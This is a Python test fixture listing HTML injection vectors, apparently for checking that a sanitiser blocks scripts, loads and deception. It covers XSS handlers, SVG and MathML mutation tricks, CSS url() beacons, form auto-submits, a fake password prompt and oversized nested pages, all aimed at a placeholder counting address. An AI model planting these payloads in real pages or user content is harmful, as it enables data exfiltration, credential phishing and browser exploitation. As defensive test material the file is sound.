"""Pages that try to act, to load, to leave or to deceive, as senders might write them. Every address is `{out}`.

Written for these tests, from what is publicly known of such pages. `{{` and `}}` are braces.
"""

from __future__ import annotations

VECTORS: dict[str, str] = {
    # Scripts
    "script": "<script>fetch('{out}')</script>",
    "script from elsewhere": "<script src={out}></script>",
    "script in odd case": "<ScRiPt sRc='{out}'></sCrIpT>",
    "script behind a slash": "<script/x src={out}></script>",
    "script never closed": "<script src={out}>",
    "script in a script": "<scr<script></script>ipt src={out}></script>",
    "module": "<script type=module>import '{out}'</script>",
    "import map": (
        '<script type=importmap>{{"imports":{{"a":"{out}"}}}}</script><script type=module>import "a"</script>'
    ),
    "handler of an error": "<img src=x onerror=\"location='{out}'\">",
    "handler without quotes": "<img src=x onerror=fetch('{out}')>",
    "handler of a load": "<body onload=\"new Image().src='{out}'\">text</body>",
    "handler of a focus": "<input autofocus onfocus=\"fetch('{out}')\">",
    "handler of a toggle": "<details open ontoggle=\"fetch('{out}')\"><summary>x</summary>y</details>",
    "handler of an animation": (
        "<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"fetch('{out}')\">x</p>"
    ),
    "handler of a pointer": "<div onpointerenter=\"fetch('{out}')\" style='position:fixed;inset:0'>x</div>",
    "handler cut by a null": "<img src=x on\0error=fetch('{out}')>",
    "address of a script": "<a href=\"javascript:fetch('{out}')\" id=c>x</a><script>c.click()</script>",
    "address of a script with blanks": "<a href=' &#9;java\nscript:top.location=\"{out}\"'>x</a>",
    "frame of a script": "<iframe src=\"javascript:top.location='{out}'\"></iframe>",
    "page in an address": "<iframe src=\"data:text/html,<script>top.location='{out}'</script>\"></iframe>",
    "page in an attribute": "<iframe srcdoc=\"<script>top.location='{out}'</script>\"></iframe>",
    # Drawings and formulas, and what changes its meaning when it is read twice
    "drawing with a script": "<svg><script>fetch('{out}')</script></svg>",
    "drawing with a handler": "<svg onload=\"fetch('{out}')\"></svg>",
    "drawing with a picture": "<svg><image href='{out}' width=9 height=9 /></svg>",
    "drawing with a use": "<svg><use href='{out}#a'/></svg>",
    "drawing that animates a link": "<svg><a><animate attributeName=href values='{out}'/><text y=9>x</text></a></svg>",
    "drawing with another page": "<svg><foreignObject><iframe src='{out}'></iframe></foreignObject></svg>",
    "drawing with a style": "<svg><style>@import '{out}';</style></svg>",
    "drawing as an address": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{out}'/></svg>\">"
    ),
    "formula with a link": "<math href='{out}'><mtext>x</mtext></math>",
    "formula that turns": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src={out}&gt;"></table></mtext></math>'
    ),
    "drawing that turns": '<svg></p><style><a id="</style><img src={out}>">',
    "title that turns": "<svg><title><style><img title='</style><img src={out}>'></style></title></svg>",
    "raw text that turns": '<noscript><p title="</noscript><img src={out}>">',
    "old raw text that turns": '<xmp><p title="</xmp><img src={out}>">',
    "text area that turns": '<textarea><img title="</textarea><img src={out}>"></textarea>',
    "select that turns": "<select><option><style></select><img src={out}></style></option></select>",
    "template that hides": (
        "<template><img src={out}></template><div><template shadowrootmode=open><img src={out}></template></div>"
    ),
    "comment that ends early": "<!--><img src={out}>-->",
    "comment that never ends": "<!-- --!><img src={out}>",
    "condition of an old browser": (
        "<!--[if gte IE 4]><script src={out}></script><![endif]--><![if true]><img src={out}><![endif]>"
    ),
    "attribute that is never closed": "<p title='<img src={out}>",
    "attribute with a back tick": "<img alt=`<img src={out}>`>",
    "doubled less-than": "<<img src={out}>",
    "text as entities": "&lt;img src={out}&gt;<b>x</b>",
    "plain text for ever": "<plaintext><img src={out}>",
    # Styles
    "style sheet": "<link rel=stylesheet href='{out}'>",
    "import of a style": "<style>@import url({out});</style>",
    "import with escapes": "<style>@\\69mport '{out}';</style>",
    "picture of a style": "<style>body{{background:url({out})}}</style>",
    "picture of an attribute": "<p style='background-image:url({out})'>x</p>",
    "picture of a short form": "<p style='background:#fff url(\"{out}\")'>x</p>",
    "picture with escapes": "<p style='background:u\\72l({out})'>x</p>",
    "picture of a set": "<p style='background:image-set(\"{out}\" 1x)'>x</p>",
    "picture of a list": "<ul style='list-style:url({out})'><li>x</ul>",
    "picture of a border": "<p style='border-image:url({out}) 3'>x</p>",
    "pointer": "<p style='cursor:url({out}),auto'>x</p>",
    "content": "<style>p::after{{content:url({out})}}</style><p>x</p>",
    "font": "<style>@font-face{{font-family:f;src:url({out})}}p{{font-family:f}}</style><p>x</p>",
    "variable": "<p style='--a:url({out});background:var(--a)'>x</p>",
    "style out of its attribute": '<p style="color:red;}}</style><img src={out}>">x</p>',
    "style out of its element": "<style>/*</style><img src={out}>*/</style>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'><a href='{out}'>Approve</a></div>",
    "overlay by margins": "<div style='margin-top:-900px;transform:scale(9)'><a href='{out}'>x</a></div>",
    "script of an old style": "<p style='width:expression(fetch(\"{out}\"));behavior:url({out})'>x</p>",
    # What loads or goes elsewhere
    "picture": "<img src='{out}'>",
    "picture without a scheme": "<img src='{bare}'>",
    "picture with back slashes": "<img src='\\\\{host}\\x'>",
    "pictures by size": "<img srcset='{out} 1x, {out}?2 2x'>",
    "picture of several": "<picture><source srcset='{out}'><img></picture>",
    "picture of an old attribute": "<img lowsrc='{out}' dynsrc='{out}'>",
    "picture by its other name": "<image src='{out}'>",
    "background": "<body background='{out}'><table background='{out}'><tr><td background='{out}'>x</table>",
    "button with a picture": "<input type=image src='{out}'>",
    "film": "<video src='{out}' autoplay></video>",
    "poster": "<video poster='{out}'></video>",
    "film of several": "<video><source src='{out}'><track default kind=captions src='{out}'></video>",
    "sound": "<audio src='{out}' autoplay></audio>",
    "object": "<object data='{out}'></object>",
    "embedded": "<embed src='{out}'>",
    "applet": "<applet code=x archive='{out}'></applet>",
    "frame": "<iframe src='{out}'></iframe>",
    "set of frames": "<frameset><frame src='{out}'></frameset>",
    "refresh": "<meta http-equiv=refresh content='0;url={out}'>",
    "policy of its own": "<meta http-equiv=content-security-policy content='img-src *'><img src='{out}'>",
    "base": "<base href='{out}'><img src=x.png>",
    "target of a base": "<base target=_top><a href='{out}' id=c>x</a><script>c.click()</script>",
    "loaded before": "<link rel=prefetch href='{out}'><link rel=preload as=image href='{out}'>",
    "connected before": "<link rel=preconnect href='{out}'><link rel=dns-prefetch href='{out}'>",
    "rendered before": "<link rel=prerender href='{out}'><link rel=modulepreload href='{out}'>",
    "icon": "<link rel=icon href='{out}'>",
    "manifest": "<link rel=manifest href='{out}'>",
    "ping": "<a href='#' ping='{out}' id=c>x</a><script>c.click()</script>",
    "form": "<form action='{out}' id=f><input name=a value=b></form><script>f.submit()</script>",
    "button of a form elsewhere": "<button formaction='{out}' form=f>x</button><form id=f></form>",
    "form that asks for a password": (
        "<form action='{out}'>Session over. <input type=password><input type=submit></form>"
    ),
    "link to the top": "<a href='{out}' target=_top autofocus>x</a>",
    "link to a new page": "<a href='{out}' target=_blank>x</a>",
    "map": "<img usemap=#m><map name=m><area shape=default href='{out}'></map>",
    "portal": "<portal src='{out}'></portal><fencedframe src='{out}'></fencedframe>",
    "quotation with an address": "<blockquote cite='{out}'>x</blockquote><q cite='{out}'>x</q>",
    "names that clobber": "<img name=body><form name=getElementById></form><a id=document href='{out}'>x</a>",
    "cookie": "<meta http-equiv=set-cookie content='session=stolen'><img src='{out}'>",
    "text shown backwards": "<p>&#x202e;moc.elpmaxe&#x202c; <bdo dir=rtl>\u202eevil</bdo> <a href='{out}'>x</a></p>",
}

DEEP = "<div>" * 60_000 + "<img src='{out}'>" + "</div>" * 60_000
FORMATS = "".join(f"<font size={n}><b><i>" for n in range(3_000)) + "<p>x" * 3_000
LARGE = "<p>Employment by region</p><img src='{out}'>\n" * 115_000  # 5 MB


def filled(source: str, out: str) -> str:
    """out: an address that counts who comes."""
    bare = out.partition(":")[2]
    return (
        source.replace("{{", "\1")
        .replace("}}", "\2")
        .replace("{out}", out)
        .replace("{bare}", bare)
        .replace("{host}", bare.strip("/").partition("/")[0])
        .replace("\1", "{")
        .replace("\2", "}")
    )
